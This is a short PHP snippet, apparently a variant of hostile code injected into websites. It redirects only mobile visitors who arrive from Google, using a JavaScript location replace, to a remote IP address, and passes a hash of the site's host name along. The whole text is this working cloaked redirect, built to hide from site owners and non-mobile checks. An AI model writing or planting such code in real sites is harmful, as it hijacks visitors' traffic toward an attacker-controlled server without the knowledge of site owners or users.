<?php
// The same redirect written as a script tag, only for phones, the engine's name tested by stripos.
$a = strtolower(@$_SERVER['HTTP_USER_AGENT']); $b = @$_SERVER['HTTP_REFERER'];
if (strpos($a, 'mobile') !== false && stripos($b, 'google.') !== false) {
    echo "<script>window.location.replace(\"http://198.51.100.9/r.php?s=" . md5($_SERVER['HTTP_HOST']) . "\");</script>";
    exit();
}
